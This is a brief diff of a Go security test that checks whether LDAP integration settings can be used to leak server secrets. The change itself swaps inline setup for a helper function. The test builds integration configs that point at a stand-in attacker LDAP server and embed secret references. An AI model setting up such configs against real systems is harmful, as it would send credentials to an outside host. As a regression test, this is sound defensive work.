@@ -32,10 +32,7 @@ func TestLDAPSettingsCannotExfiltrateServerSecretsAPI(t *testing.T) {
 		// Through create, then through a change of an integration that binds
 		// anonymously today.
 		anon := `{"url":"` + evil.URL() + `","users":{"baseDN":"ou=people,dc=example,dc=org"}}`
-		in := &store.Integration{Name: "anonymous", Kind: "ldap", LDAPConfig: &anon}
-		if err := s.Store.CreateIntegration(ctx, in); err != nil {
-			t.Fatal(err)
-		}
+		in := seedIntegration(t, s.Store, &store.Integration{Name: "anonymous", Kind: "ldap", LDAPConfig: &anon})
 		for name, ref := range refs {
 			code, out := api.call("POST", "/api/v1/integrations", map[string]any{"name": "evil " + strings.Fields(name)[0],
 				"kind": "ldap", "ldapConfig": ldapYAML(evil.URL(), ref)})
